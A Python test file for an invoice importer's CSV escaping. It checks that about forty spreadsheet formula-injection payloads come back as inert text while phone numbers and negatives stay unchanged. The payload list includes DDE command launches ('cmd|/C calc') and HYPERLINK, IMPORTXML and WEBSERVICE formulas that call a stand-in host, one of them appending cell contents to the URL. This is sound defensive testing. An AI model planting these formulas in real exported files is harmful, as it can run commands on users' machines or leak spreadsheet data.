"""Forty payloads that a spreadsheet would run go out as text and come back as they were."""

from __future__ import annotations

import csv
import io

import pytest
import python_calamine
import xlsxwriter

from duecourse.connectors.importers.escape import escape, unescape
from duecourse.connectors.importers.invoices import parse, write_refused
from duecourse.connectors.importers.source import Source

PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://x.example?"&A1,"pay")', "=IMPORTXML(\"http://x.example\",\"//a\")",
    "=WEBSERVICE(\"http://x.example\")", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=A1", "==1", "=-1", "=+1", "=@A1", "=\t1",
    "+1+1", "+cmd|'/C calc'!A0", "+A1", "+SUM(1,2)", "+1-555-0100", "+(1)", "-1+1", "-2+3+cmd|' /C calc'!A0", "-A1",
    "-SUM(A1:A9)", "-(1)", "--1", "@SUM(1+1)", "@A1", "@cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1",
    "\u00a0=1+1", "\ufeff=1+1", "|calc", "%0A=1+1", "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(1)", "'=1+1",
    "+49 (30) 1234", "=\"1\"&\"2\"",
]  # fmt: skip
HARMLESS = [
    "+44 20 7946 0000",
    "+4930123456",
    "-12.50",
    "-1,234.50",
    "+3",
    "0042",
    "007",
    "31/01/2026",
    "O'Hara",
    "'t Hof",
    "a=b",
    "1-2",
]


def test_there_are_forty() -> None:
    assert len(set(PAYLOADS)) >= 40


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_is_shown_and_comes_back(payload: str) -> None:
    shown = escape(payload)
    assert shown.startswith("'")
    assert unescape(shown) == payload


@pytest.mark.parametrize("text", HARMLESS)
def test_phones_negatives_and_leading_zeros_stay_as_they_are(text: str) -> None:
    assert unescape(escape(text)) == text
    assert escape(text) == text or text.startswith("'")


def test_no_formula_in_the_file_of_refused_rows() -> None:
    rows = "".join(f'"{p.replace(chr(34), chr(34) * 2)}",,2026-01-05,2026-02-04,1.00\n' for p in PAYLOADS if p.strip())
    parsed = parse(Source.of(("Customer,Invoice,Date,Due date,Amount\n" + rows).encode()), currency="EUR")
    out = io.StringIO(newline="")
    assert write_refused(parsed, out) == len(PAYLOADS)
    for row in csv.reader(io.StringIO(out.getvalue(), newline="")):
        assert not any(cell.startswith(("=", "@", "\t", "\r")) for cell in row), row
    # A spreadsheet program sees text in every cell, no formula.
    book = io.BytesIO()
    workbook = xlsxwriter.Workbook(book, {"strings_to_formulas": True, "in_memory": True})
    sheet = workbook.add_worksheet()
    for r, row in enumerate(csv.reader(io.StringIO(out.getvalue(), newline=""))):
        for c, cell in enumerate(row):
            sheet.write(r, c, cell)
    workbook.close()
    read = python_calamine.load_workbook(io.BytesIO(book.getvalue())).get_sheet_by_index(0).to_python()
    assert len(read) == len(PAYLOADS) + 1
